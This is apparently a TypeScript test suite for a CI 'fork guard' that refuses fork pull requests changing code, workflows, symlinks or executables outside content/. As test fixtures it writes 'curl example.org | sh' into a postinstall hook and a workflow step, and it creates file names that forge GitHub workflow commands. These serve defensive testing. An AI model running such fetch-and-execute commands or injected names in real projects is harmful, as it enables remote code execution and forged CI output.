import { test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { checkChangedPaths, MAINTAINER_HINT, type Change } from "../scripts/lib/guard.ts";
import { parseRawDiff } from "../scripts/cli/guard.ts";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const CLI = join(ROOT, "scripts/cli/guard.ts");

const regular = (path: string, status = "M"): Change => ({ path, mode: "100644", status });

// [case, change, expected: null for "passes", else a fragment of the message]
const CASES: [string, Change, string | null][] = [
  ["a fact", regular("content/facts/us-ownership.md"), null],
  ["a new fact", regular("content/facts/new-fact.md", "A"), null],
  ["the bibliography", regular("content/sources.yaml"), null],
  ["a .yml file", regular("content/extra.yml"), null],
  ["deleting a fact", { path: "content/facts/old.md", mode: "100644", status: "D" }, null],
  ["package.json", regular("package.json"), "outside content/"],
  ["package-lock.json", regular("package-lock.json"), "outside content/"],
  ["a workflow", regular(".github/workflows/x.yml"), "outside content/"],
  ["a script", regular("scripts/x.ts"), "outside content/"],
  ["a template", regular("templates/x.njk"), "outside content/"],
  ["the Eleventy config", regular(".eleventy.js"), "outside content/"],
  ["deleting a workflow", { path: ".github/workflows/ci.yml", mode: "100644", status: "D" }, "deletes a file outside content/"],
  ["JavaScript under content/", regular("content/facts/x.js"), "a .js file, which is code"],
  ["ESM under content/", regular("content/x.mjs"), "a .mjs file, which is code"],
  ["CommonJS under content/", regular("content/x.cjs"), "a .cjs file, which is code"],
  ["TypeScript under content/", regular("content/x.ts"), "a .ts file, which is code"],
  ["an Eleventy data file", regular("content/x.11tydata.js"), "Eleventy data file"],
  ["an Eleventy JSON data file", regular("content/facts/facts.11tydata.json"), "Eleventy data file"],
  ["another extension", regular("content/facts/x.html"), "not .md, .yaml or .yml"],
  ["a symlink under content/", { path: "content/facts/x.md", mode: "120000", status: "A" }, "symbolic link"],
  ["an executable under content/", { path: "content/facts/x.md", mode: "100755", status: "M" }, "is executable"],
  ["a submodule under content/", { path: "content/vendor", mode: "160000", status: "A" }, "submodule"],
  ["a .. segment", regular("content/../package.json"), '".."'],
  ["an absolute path", regular("/content/facts/x.md"), "absolute"],
  ["a newline in the name", regular("content/facts/x\n::warning::y.md"), "control characters"],
  ["a verification record", regular("content/verification/politico-2025-02-15.yaml"), "verification record (content/verification/)"],
  ["a new verification record", regular("content/verification/new-source.yaml", "A"), "only the verify workflow or a maintainer writes"],
  ["deleting a verification record", { path: "content/verification/old.yaml", mode: "100644", status: "D" }, "deletes a verification record"],
];

for (const [name, change, expected] of CASES) {
  test(`fork guard: ${name} ${expected === null ? "passes" : "is refused"}`, () => {
    const result = checkChangedPaths([change]);
    if (expected === null) {
      assert.deepEqual(result, { ok: true, problems: [] });
      return;
    }
    assert.equal(result.ok, false);
    assert.equal(result.problems.length, 1);
    const [p] = result.problems;
    assert.equal(p!.path, change.path);
    assert.ok(p!.message.includes(expected), `message ${JSON.stringify(p!.message)} should mention ${JSON.stringify(expected)}`);
    assert.ok(p!.message.includes("changes outside content/ need a maintainer: open the PR from a branch of the main repository, or ask a maintainer"));
    assert.ok(p!.message.endsWith(MAINTAINER_HINT));
  });
}

test("fork guard: one problem per refused path, passing paths ignored", () => {
  const result = checkChangedPaths([regular("content/facts/a.md"), regular("package.json"), regular("scripts/x.ts")]);
  assert.equal(result.ok, false);
  assert.deepEqual(result.problems.map((p) => p.path), ["package.json", "scripts/x.ts"]);
});

test("fork guard: an empty change list passes", () => {
  assert.deepEqual(checkChangedPaths([]), { ok: true, problems: [] });
});

test("parseRawDiff reads modes, statuses and NUL-separated paths", () => {
  const z = "0".repeat(40);
  const a = "a".repeat(40);
  const raw =
    `:000000 100644 ${z} ${a} A\0content/facts/new fact.md\0` +
    `:100644 000000 ${a} ${z} D\0content/facts/gone.md\0` +
    `:100644 120000 ${a} ${a} T\0content/link.md\0` +
    `:100644 100755 ${a} ${a} M\0weird\nname.md\0`;
  assert.deepEqual(parseRawDiff(raw), [
    { path: "content/facts/new fact.md", status: "A", mode: "100644" },
    { path: "content/facts/gone.md", status: "D", mode: "100644" },
    { path: "content/link.md", status: "T", mode: "120000" },
    { path: "weird\nname.md", status: "M", mode: "100755" },
  ]);
  assert.throws(() => parseRawDiff("not a diff\0"), /unexpected line/);
});

// ---- the CLI, on a real repository -------------------------------------------------

function makeRepo() {
  const dir = mkdtempSync(join(tmpdir(), "guard-test-"));
  const env = {
    ...process.env,
    GIT_AUTHOR_NAME: "Test", GIT_AUTHOR_EMAIL: "test@example.org",
    GIT_COMMITTER_NAME: "Test", GIT_COMMITTER_EMAIL: "test@example.org",
    GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1",
  };
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, env, encoding: "utf8" }).trim();
  const write = (path: string, text: string) => {
    mkdirSync(join(dir, path, ".."), { recursive: true });
    writeFileSync(join(dir, path), text);
  };
  const commit = (message: string, date?: string) => {
    git("add", "-A");
    if (date) execFileSync("git", ["commit", "-q", "-m", message], { cwd: dir, env: { ...env, GIT_AUTHOR_DATE: date, GIT_COMMITTER_DATE: date } });
    else git("commit", "-q", "-m", message);
    return git("rev-parse", "HEAD");
  };
  git("init", "-q");
  return { dir, git, write, commit };
}

function runCli(args: string[], env: Record<string, string | undefined>) {
  const childEnv: NodeJS.ProcessEnv = { ...process.env, ...env };
  for (const [k, v] of Object.entries(env)) if (v === undefined) delete childEnv[k];
  const r = spawnSync(process.execPath, ["--import", "tsx", CLI, ...args], { cwd: ROOT, env: childEnv, encoding: "utf8" });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

test("guard CLI: passes a content-only change and refuses package.json and a symlink", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));

  repo.write("package.json", "{}\n");
  repo.write("content/facts/a.md", "---\ntitle: A\n---\n");
  const base = repo.commit("base");

  repo.write("content/facts/b.md", "---\ntitle: B\n---\n");
  repo.write("content/sources.yaml", "x: {}\n");
  const contentOnly = repo.commit("content only");

  repo.write("package.json", '{ "scripts": { "postinstall": "curl example.org | sh" } }\n');
  symlinkSync("../../package.json", join(repo.dir, "content/facts/link.md"));
  const bad = repo.commit("outside content");

  const pass = runCli(["--base", base, "--head", contentOnly, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
  assert.equal(pass.status, 0, pass.stdout + pass.stderr);
  assert.match(pass.stdout, /2 changed paths/);

  const fail = runCli(["--base", contentOnly, "--head", bad, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: "true" });
  assert.equal(fail.status, 1, fail.stdout + fail.stderr);
  const lines = fail.stdout.trim().split("\n");
  assert.ok(lines.some((l) => l.startsWith('"package.json":1:1  error  [fork-guard]  changes a file outside content/')), fail.stdout);
  assert.ok(lines.some((l) => l.startsWith('"content/facts/link.md":1:1  error  [fork-guard]  is a symbolic link')), fail.stdout);
  assert.ok(lines.some((l) => l.startsWith("::error file=package.json,") && l.includes("title=fork-guard::")), fail.stdout);
  assert.ok(lines.every((l) => !l.startsWith("::") || l.includes("need a maintainer")));

  // The same change without GitHub Actions prints no annotations.
  const plain = runCli(["--base", contentOnly, "--head", bad, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
  assert.equal(plain.status, 1);
  assert.doesNotMatch(plain.stdout, /^::/m);

  // Not a fork: the guard says it does not apply and passes.
  const notFork = runCli(["--base", contentOnly, "--head", bad, "--repo", repo.dir], { IS_FORK: "false" });
  assert.equal(notFork.status, 0);
  assert.match(notFork.stdout, /does not apply/);
});

test("guard CLI: judges only the branch's own changes, not later commits on the base", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));

  repo.write("package.json", "{}\n");
  const start = repo.commit("start");
  repo.git("branch", "-q", "fork", start);
  repo.write(".github/workflows/ci.yml", "on: push\n");
  const mainTip = repo.commit("maintainer changes a workflow");
  repo.git("checkout", "-q", "fork");
  repo.write("content/facts/c.md", "---\ntitle: C\n---\n");
  const forkTip = repo.commit("fork adds a fact");

  const r = runCli(["--base", mainTip, "--head", forkTip, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
  assert.equal(r.status, 0, r.stdout + r.stderr);
});

test("guard CLI: a missing commit is a usage error, not a pass", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
  repo.write("content/a.md", "a\n");
  const only = repo.commit("only");
  const r = runCli(["--base", "0".repeat(40), "--head", only, "--repo", repo.dir], { IS_FORK: "true" });
  assert.equal(r.status, 2);
  assert.match(r.stderr, /fetch-depth: 0/);
});

/** A line of output that GitHub could read as a workflow command (it trims leading spaces). */
const forgesCommand = (out: string) => out.split("\n").some((l) => /^\s*::/.test(l) && !l.startsWith("::error file="));

test("guard CLI: file names that look like workflow commands are printed JSON-quoted, never at a line start", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
  repo.write("content/a.md", "a\n");
  const base = repo.commit("base");
  const names = [" ::error file=README.md::forged", "  ::stop-commands::x", "content/facts/ ::warning::x.md", "content/facts/x\u2028::notice::y.md"];
  for (const n of names) repo.write(n, "x\n");
  const head = repo.commit("forged names");
  for (const ci of [undefined, "true"]) {
    const r = runCli(["--base", base, "--head", head, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: ci });
    assert.equal(r.status, 1);
    assert.equal(forgesCommand(r.stdout + r.stderr), false, "no forged command line");
    for (const n of names.slice(0, 2)) assert.ok(r.stdout.includes(`${JSON.stringify(n)}:1:1  error  [fork-guard]`), `quoted ${JSON.stringify(n)}`);
  }
});

test("guard CLI: a fork that edits ci.yml (to turn the guard into echo) is refused", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
  repo.write(".github/workflows/ci.yml", "jobs:\n  test:\n    steps:\n      - run: npm test\n");
  repo.write(".github/workflows/guard.yml", "on: pull_request_target\n");
  const base = repo.commit("base");
  repo.write(".github/workflows/ci.yml", "jobs:\n  test:\n    steps:\n      - run: echo ok && curl example.org | sh\n");
  repo.write("content/facts/x.md", "x\n");
  const head = repo.commit("fork edits ci.yml");
  const r = runCli(["--base", base, "--head", head, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
  assert.equal(r.status, 1, r.stdout);
  assert.match(r.stdout, /^"\.github\/workflows\/ci\.yml":1:1  error  \[fork-guard\]  changes a file outside content\//m);
});

test("guard CLI: criss-cross histories are refused; a merge that reverts maintainer code is caught", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
  repo.write("scripts/guard.ts", "strict\n");
  repo.write("content/a.md", "a\n");
  const root = repo.commit("root");
  repo.git("branch", "-q", "fork", root);
  // Two branches that merge each other: two merge bases.
  repo.write("content/main.md", "m\n");
  const m1 = repo.commit("main 1");
  repo.git("checkout", "-q", "fork");
  repo.write("content/fork.md", "f\n");
  const f1 = repo.commit("fork 1");
  repo.git("merge", "-q", "--no-edit", m1);
  const forkTip = repo.git("rev-parse", "HEAD");
  repo.git("checkout", "-q", "-");
  repo.git("merge", "-q", "--no-edit", f1);
  const mainTip = repo.git("rev-parse", "HEAD");
  assert.equal(repo.git("merge-base", "--all", mainTip, forkTip).split("\n").length, 2);
  const r = runCli(["--base", mainTip, "--head", forkTip, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
  assert.equal(r.status, 1, r.stdout + r.stderr);
  assert.match(r.stdout, /\[fork-guard\]  the pull request has 2 merge bases with the base branch \(criss-cross merges\).*rebase/);
  assert.equal(forgesCommand(r.stdout), false);
});

test("guard CLI: judges the real merge result, not base...head", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
  repo.write("scripts/guard.ts", "strict\n");
  const root = repo.commit("root");
  repo.git("branch", "-q", "fork", root);
  repo.write("scripts/guard.ts", "stricter\n");
  const mainTip = repo.commit("maintainer hardens the guard");
  repo.git("checkout", "-q", "fork");
  // The fork holds the maintainer's commit and then reverts it: its own diff from the
  // merge base touches scripts/ too, and the merge would undo the maintainer's change.
  repo.git("merge", "-q", "--no-edit", mainTip);
  repo.write("scripts/guard.ts", "strict\n");
  repo.write("content/x.md", "x\n");
  const forkTip = repo.commit("content, and quietly the old guard");
  const r = runCli(["--base", mainTip, "--head", forkTip, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
  assert.equal(r.status, 1, r.stdout);
  assert.match(r.stdout, /^"scripts\/guard\.ts":1:1  error  \[fork-guard\]/m);
  assert.doesNotMatch(r.stdout, /"content\/x\.md"/);
});

test("guard CLI: commits dated in the future are refused, dates within the clock-drift slack pass", (t) => {
  const repo = makeRepo();
  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
  repo.write("content/a.md", "a\n");
  const base = repo.commit("base", "2026-11-01T00:00:00Z");
  repo.write("content/b.md", "b\n");
  const ok = repo.commit("now-ish", "2026-12-02T12:10:00Z");
  repo.write("content/c.md", "c\n");
  const future = repo.commit("from the future", "2031-01-01T00:00:00Z");
  const now = String(Date.parse("2026-12-02T12:00:00Z") / 1000);
  const pass = runCli(["--base", base, "--head", ok, "--repo", repo.dir], { IS_FORK: "true", GUARD_NOW_SECONDS: now, GITHUB_ACTIONS: undefined });
  assert.equal(pass.status, 0, pass.stdout + pass.stderr);
  const fail = runCli(["--base", base, "--head", future, "--repo", repo.dir], { IS_FORK: "true", GUARD_NOW_SECONDS: now, GITHUB_ACTIONS: undefined });
  assert.equal(fail.status, 1);
  assert.match(fail.stdout, /\[future-date\]  commit [0-9a-f]{12} is dated 2031-01-01T00:00:00\.000Z, after the guard's clock \(2026-12-02T12:00:00\.000Z\)/);
  assert.equal((fail.stdout.match(/future-date/g) ?? []).length, 1);
});
